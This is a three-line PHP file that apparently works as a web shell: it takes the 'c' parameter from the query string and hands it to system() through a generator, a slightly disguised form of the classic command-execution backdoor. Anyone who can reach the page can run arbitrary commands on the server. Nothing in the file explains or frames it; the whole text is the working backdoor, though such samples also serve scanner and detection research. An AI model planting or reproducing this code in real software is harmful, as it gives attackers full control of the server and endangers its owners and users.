<?php
function g() { yield $_GET["c"]; }
system(iterator_to_array(g())[0]);
